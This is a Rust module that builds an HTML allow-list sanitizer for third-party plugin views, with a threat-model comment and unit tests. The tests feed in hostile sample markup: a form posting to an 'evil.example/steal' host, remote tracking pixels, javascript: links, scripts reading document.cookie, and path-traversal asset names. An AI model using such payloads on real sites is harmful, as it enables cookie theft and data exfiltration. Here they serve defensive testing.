//! The allow-list every plugin view (`types.view`) passes before a browser
//! sees it: the threat model and the policy are in wit/README.md ("Views").
//!
//! A plugin is third-party code; its HTML is shown inside the application's
//! own pages, so it must get no power there. Built from
//! [`ammonia::Builder::empty`], so a new ammonia release cannot widen it:
//!
//! - no script of any kind: `script`/`style` elements go with their content,
//!   `on*` and `style` attributes are not on the list, and no URL survives
//!   (no `href`, no `src`: no `javascript:`, no navigation away, no request
//!   to another origin, no tracking pixel);
//! - forms post nowhere: `form` keeps no `action`/`method`, every `button` is
//!   `type="button"`, and `input` types that submit, upload or navigate
//!   (`submit`, `image`, `file`, `reset`) become text inputs; the page
//!   reads the fields and sends them through the kernel's own routes;
//! - no `id`, no `name` on anything but form fields, no `form`/`formaction`
//!   attributes: nothing can take or clobber an element or a global of the
//!   application around the view;
//! - `class` and `data-*` stay (the page prefixes the classes, `pv-…`, so
//!   the application's own styles never apply to them);
//! - images only from the plugin's own package: `<img src="asset:NAME">`
//!   becomes `/plugin-assets/{id}@{version}/NAME` when `NAME` is one of the
//!   view's `assets` and an asset of the version that drew it
//!   ([`sanitize_with_assets`]); any other `src` is removed.

use std::collections::{BTreeSet, HashMap, HashSet};

use ammonia::Builder;

use crate::slots::View;

/// Elements of prose, lists, tables and forms.
const TAGS: &[&str] = &[
    "abbr",
    "b",
    "blockquote",
    "br",
    "button",
    "caption",
    "code",
    "dd",
    "del",
    "details",
    "div",
    "dl",
    "dt",
    "em",
    "fieldset",
    "figcaption",
    "figure",
    "form",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "label",
    "legend",
    "li",
    "mark",
    "meter",
    "ol",
    "optgroup",
    "option",
    "output",
    "p",
    "pre",
    "progress",
    "q",
    "s",
    "samp",
    "select",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "textarea",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
];

/// Dropped with everything inside: their content is code or foreign markup.
const DROP_WITH_CONTENT: &[&str] =
    &["script", "style", "template", "noscript", "iframe", "object", "embed", "svg", "math", "title"];

/// Attributes any element may carry.
const GENERIC: &[&str] = &["class", "title", "lang", "dir", "hidden", "role", "aria-label", "aria-describedby"];

/// Per element, the attributes that element may carry besides [`GENERIC`].
const PER_TAG: &[(&str, &[&str])] = &[
    (
        "input",
        &[
            "name",
            "type",
            "value",
            "placeholder",
            "min",
            "max",
            "step",
            "checked",
            "disabled",
            "readonly",
            "required",
            "maxlength",
            "minlength",
            "pattern",
            "size",
            "inputmode",
            "autocomplete",
            "spellcheck",
        ],
    ),
    ("select", &["name", "multiple", "required", "disabled", "size"]),
    ("option", &["value", "selected", "disabled", "label"]),
    ("optgroup", &["label", "disabled"]),
    (
        "textarea",
        &[
            "name",
            "rows",
            "cols",
            "placeholder",
            "maxlength",
            "minlength",
            "required",
            "readonly",
            "disabled",
            "spellcheck",
        ],
    ),
    ("button", &["name", "value", "disabled"]),
    ("img", &["src", "alt", "width", "height"]),
    ("fieldset", &["disabled"]),
    ("output", &["name"]),
    ("td", &["colspan", "rowspan", "headers"]),
    ("th", &["colspan", "rowspan", "scope", "abbr"]),
    ("ol", &["start", "reversed", "type"]),
    ("li", &["value"]),
    ("time", &["datetime"]),
    ("meter", &["value", "min", "max", "low", "high", "optimum"]),
    ("progress", &["value", "max"]),
    ("details", &["open"]),
];

/// `input` types kept; any other becomes a text input.
const INPUT_TYPES: &[&str] = &[
    "text", "number", "radio", "checkbox", "range", "hidden", "date", "time", "email", "url", "tel", "search", "color",
];

fn builder() -> Builder<'static> {
    let mut b = Builder::empty();
    b.tags(TAGS.iter().copied().collect::<HashSet<_>>())
        .clean_content_tags(DROP_WITH_CONTENT.iter().copied().filter(|t| !TAGS.contains(t)).collect::<HashSet<_>>())
        .generic_attributes(GENERIC.iter().copied().collect::<HashSet<_>>())
        .generic_attribute_prefixes(["data-"].into_iter().collect::<HashSet<_>>())
        .tag_attributes(
            PER_TAG.iter().map(|(t, a)| (*t, a.iter().copied().collect::<HashSet<_>>())).collect::<HashMap<_, _>>(),
        )
        // Only `asset:` survives the URL check (relative URLs pass it, and
        // the filter below drops them); `img src` is the only URL attribute allowed.
        .url_schemes(["asset"].into_iter().collect::<HashSet<_>>())
        .link_rel(None)
        .strip_comments(true)
        .set_tag_attribute_value("button", "type", "button")
        .attribute_filter(|tag, attr, value| match (tag, attr) {
            ("input", "type") => {
                let t = value.to_ascii_lowercase();
                Some(if INPUT_TYPES.contains(&t.as_str()) { t.into() } else { "text".into() })
            }
            ("img", "src") => value
                .strip_prefix("asset:")
                .filter(|name| crate::assets::is_asset_name(name))
                .map(|name| format!("asset:{name}").into()),
            ("img", "width" | "height") => {
                (!value.is_empty() && value.len() <= 5 && value.bytes().all(|c| c.is_ascii_digit()))
                    .then(|| value.into())
            }
            _ => Some(value.into()),
        });
    b
}

/// The view with its HTML made safe to show in the application's pages,
/// without images (see [`sanitize_with_assets`]). Asset names are kept only
/// when they are plain file names (`[A-Za-z0-9._-]`, not starting with `.`).
pub fn sanitize(view: &View) -> View {
    sanitize_with_assets(view, None)
}

/// [`sanitize`], with the images of `from`: the version (`id@version`)
/// that drew the view and the assets it has. An `<img src="asset:NAME">`
/// keeps its image only if `NAME` is in the view's `assets` and in the
/// version's; otherwise it loses its `src` (its `alt` text shows).
pub fn sanitize_with_assets(view: &View, from: Option<(&str, &BTreeSet<String>)>) -> View {
    thread_local! {
        static BUILDER: Builder<'static> = builder();
    }
    let clean = BUILDER.with(|b| b.clean(&view.html).to_string());
    let assets: Vec<String> = view.assets.iter().filter(|a| crate::assets::is_asset_name(a)).cloned().collect();
    // The builder left only `src="asset:NAME"` with plain names: nothing to escape.
    const MARK: &str = " src=\"asset:";
    let mut html = String::with_capacity(clean.len());
    let mut rest = clean.as_str();
    while let Some(at) = rest.find(MARK) {
        html.push_str(&rest[..at]);
        let after = &rest[at + MARK.len()..];
        let Some(end) = after.find('"') else { break };
        let name = &after[..end];
        if let Some((key, available)) = from
            && assets.iter().any(|a| a == name)
            && available.contains(name)
        {
            html.push_str(&format!(" src=\"/plugin-assets/{key}/{name}\""));
        }
        rest = &after[end + 1..];
    }
    html.push_str(rest);
    View { html, assets }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn images_only_from_the_versions_listed_assets() {
        let view = View {
            html: concat!(
                r#"<img src="asset:deck.png" alt="A deck" width="120">"#,
                r#"<img src="asset:secret.png" alt="not listed">"#,
                r#"<img src="asset:gone.png" alt="not in the package">"#,
                r#"<img src="/api/v1/users/me" alt="relative">"#,
                r#"<img src="https://evil.example/p.gif" alt="remote">"#,
                r#"<img src="asset:../x.png" alt="traversal">"#,
                r#"<img src="data:image/png;base64,AAAA" alt="data" height="10px">"#,
            )
            .into(),
            assets: vec!["deck.png".into(), "gone.png".into(), "../x.png".into()],
        };
        let available: BTreeSet<String> = ["deck.png".to_owned(), "secret.png".to_owned()].into();
        let out = sanitize_with_assets(&view, Some(("org.example.cards@1.0.0", &available)));
        assert_eq!(
            out.html,
            concat!(
                r#"<img src="/plugin-assets/org.example.cards@1.0.0/deck.png" alt="A deck" width="120">"#,
                r#"<img alt="not listed">"#,
                r#"<img alt="not in the package">"#,
                r#"<img alt="relative">"#,
                r#"<img alt="remote">"#,
                r#"<img alt="traversal">"#,
                r#"<img alt="data">"#,
            )
        );
        assert_eq!(out.assets, ["deck.png", "gone.png"]);
        // Without the version, no image at all.
        assert!(!sanitize(&view).html.contains("src="));
    }

    fn clean(html: &str) -> String {
        sanitize(&View { html: html.into(), assets: vec![] }).html
    }

    #[test]
    fn scripts_handlers_styles_and_urls_go() {
        let out = clean(concat!(
            r#"<p onclick="fetch('/api/v1/me')" style="position:fixed">Hi<script>document.cookie</script></p>"#,
            r#"<img src="https://evil.example/t.gif"><a href="javascript:alert(1)">x</a>"#,
            r#"<iframe src="/api/v1/me"></iframe><svg><script>alert(1)</script></svg><style>body{}</style>"#,
            r#"<div id="app" data-action="flip" class="card">k</div>"#,
        ));
        for gone in
            ["onclick", "style", "script", "cookie", "evil", "javascript", "iframe", "svg", "id=", "href", "src="]
        {
            assert!(!out.contains(gone), "{gone} survived: {out}");
        }
        // An image from elsewhere keeps no source (package assets only: see above).
        assert!(out.contains("<img>"), "{out}");
        assert!(out.contains(r#"data-action="flip""#), "{out}");
        assert!(out.contains(r#"class="card""#), "{out}");
    }

    #[test]
    fn forms_cannot_submit_or_navigate() {
        let out = clean(concat!(
            r#"<form action="https://evil.example/steal" method="post">"#,
            r#"<input name="value" type="number" step="any"><input type="submit" formaction="/x">"#,
            r#"<input type="file" name="f"><button type="submit" data-action="check">Check</button>"#,
            r#"<select name="unit"><option value="m" selected>m</option></select></form>"#,
        ));
        for gone in [" action=\"", "method", "evil", "formaction", "type=\"submit\"", "type=\"file\""] {
            assert!(!out.contains(gone), "{gone} survived: {out}");
        }
        assert!(out.contains(r#"<input name="value" type="number" step="any">"#), "{out}");
        assert!(out.contains(r#"type="button""#), "{out}");
        assert!(out.contains(r#"<option value="m" selected="">m</option>"#), "{out}");
    }

    #[test]
    fn asset_names_are_plain_file_names() {
        let v = sanitize(&View {
            html: String::new(),
            assets: vec!["cards.css".into(), "../secret".into(), ".env".into(), "a/b.png".into(), "x y".into()],
        });
        assert_eq!(v.assets, vec!["cards.css".to_string()]);
    }
}
